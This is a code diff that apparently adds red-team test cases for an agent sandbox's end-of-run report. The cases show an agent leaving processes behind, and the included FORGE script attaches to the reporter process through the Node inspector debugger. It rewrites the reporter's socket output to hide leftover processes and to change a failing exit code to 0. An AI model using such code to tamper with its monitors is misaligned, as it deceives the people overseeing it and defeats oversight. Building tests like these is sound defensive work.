@@ -1,0 +1,73 @@
+import { forged, MINE } from '../parts.mjs';
+
+const BWRAP = `${MINE} --isolation bwrap`;
+
+/** Opens the debugger of the program that reports from the sandbox, and lets it change what it writes. */
+const FORGE = `
+const { connect } = require('net');
+const { execFileSync } = require('child_process');
+const [, , pattern, instead] = process.argv;
+const pids = execFileSync('pgrep', ['-f', 'warden.cjs']).toString().trim().split('\\n').map(Number);
+for (const pid of pids.filter((pid) => pid !== 1)) process.kill(pid, 'SIGUSR1');
+const code = 'const { Socket } = process.mainModule.require("net"); const { write } = Socket.prototype;'
+  + 'Socket.prototype.write = function (data, ...more) { return write.call(this, String(data).replace('
+  + pattern + ', ' + JSON.stringify(instead) + '), ...more); };';
+const frame = (text) => {
+  const body = Buffer.from(text);
+  return Buffer.concat([Buffer.from([0x81, 0xfe, body.length >> 8, body.length & 255, 0, 0, 0, 0]), body]);
+};
+const until = Date.now() + 2000;
+const knock = () => fetch('http://127.0.0.1:9229/json').then((answer) => answer.json()).then(([{ id }]) => {
+  const socket = connect(9229, '127.0.0.1');
+  socket.write('GET /' + id + ' HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\n\\r\\n');
+  socket.once('data', () => {
+    socket.write(frame(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression: code } })));
+    socket.once('data', () => process.exit());
+  });
+}, () => Date.now() < until && setTimeout(knock, 50));
+knock();
+`;
+const forge = (pattern, instead) => `node forge.cjs '${pattern}' '${instead}'`;
+const HIDE_PROCESSES = forge('/"leftBehind":\\[.*\\]/', '"leftBehind":[]');
+
+/** What an agent in a sandbox does about the report of its end. */
+const inside = (id, way, deed, more = {}) => ({
+  id,
+  way,
+  controls: 'what the sandbox reports',
+  needs: 'bwrap',
+  files: {
+    'mine.mjs': forged('completed()', deed, { plan: `files: { 'forge.cjs': ${JSON.stringify(FORGE)} }` }),
+  },
+  steps: [BWRAP],
+  attacked: 'forged',
+  ...more,
+});
+const behind = (command) => `setsid ${command} >/dev/null 2>&1 </dev/null &`;
+
+export const sandbox = [
+  inside('control', 'does nothing', 'true', { control: true }),
+  inside('leaves-a-process', 'leaves a process behind', behind('sleep 300')),
+  inside(
+    'leaves-a-chain-of-forks',
+    'leaves processes behind that each live for less than a millisecond',
+    behind(`perl -e 'while (1) { exit if fork; select undef, undef, undef, rand(0.001) }'`),
+  ),
+  inside(
+    'hides-a-process-by-debugger',
+    'leaves a process behind, and lets the debugger of the reporter hide it',
+    `${HIDE_PROCESSES}; ${behind('sleep 300')}`,
+  ),
+  inside(
+    'hides-an-exit-code-by-debugger',
+    'Ralph fails, and the debugger of the reporter changes its exit code',
+    forge('/"exitCode":3/', '"exitCode":0'),
+    { steps: [`chmod +x ralph; ${BWRAP.replace('--ralph embedded', '--ralph ./ralph')}`] },
+  ),
+].map((attack) => ({
+  ...attack,
+  files: {
+    ...attack.files,
+    ralph: '#!/bin/sh\n@STANDIN@ "$@"\ncode=$?\ncase "$1" in run) exit 3;; esac\nexit $code\n',
+  },
+}));
